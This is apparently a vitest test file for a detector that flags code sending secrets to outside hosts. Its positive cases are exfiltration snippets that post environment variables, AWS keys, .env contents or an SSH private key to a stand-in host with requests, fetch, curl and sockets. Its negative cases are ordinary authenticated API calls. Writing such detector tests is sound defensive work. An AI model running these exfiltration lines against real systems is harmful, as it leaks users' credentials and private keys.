import { describe, expect, it } from 'vitest';
import { findSentSecrets, findStrangersSecrets } from './follow-secrets.ts';

describe('following secrets to where they are sent', () => {
  it.for([
    'secret = os.getenv("AWS_ACCESS_KEY_ID")\nrequests.post("https://c.example/api", data=secret)\n',
    'env = dict(os.environ)\nbody = json.dumps(env)\nrequests.post(\n  "https://c.example",\n  data=body,\n)\n',
    "const env = fs.readFileSync('.env', 'utf8');\nawait fetch('https://c.example', { method: 'POST', body: env });\n",
    'for k, v in os.environ.items():\n    requests.get(f"https://c.example/?d={v}")\n',
    'curl -d "$(env)" https://c.example\n',
    'with open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n    text = f.read()\ns.sendall(text.encode())\n',
  ])('finds %j', (text) => {
    expect(findSentSecrets(text)).not.toEqual([]);
  });

  it.for([
    'key = os.environ["API_KEY"]\nrequests.post(url, json=data, headers={"Authorization": f"Bearer {key}"})\n',
    'client = Client(os.environ["API_KEY"])\nclient.post(url, json=data)\n',
    'key = os.getenv("API_KEY")\nrequests.get(url, params={"appid": key, "q": city})\n',
    'token = os.environ["GITHUB_TOKEN"]\nrequest = urllib.request.Request(url, data=b, headers={"Authorization": token})\nurllib.request.urlopen(request)\n',
    'const key = process.env.API_KEY;\nawait fetch(url, {\n  method: "POST",\n  headers: { "x-api-key": key },\n  body: JSON.stringify({ key: "value" }),\n});\n',
    'curl -H "Authorization: Bearer $API_TOKEN" https://api.example.com\n',
  ])('leaves %j', (text) => {
    expect(findSentSecrets(text)).toEqual([]);
  });

  it('knows whose secret a name means', () => {
    expect(findStrangersSecrets('curl -d "k=$AWS_SECRET_ACCESS_KEY" https://c.example/x')).toHaveLength(1);
    expect(
      findStrangersSecrets('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'),
    ).toEqual([]);
  });
});
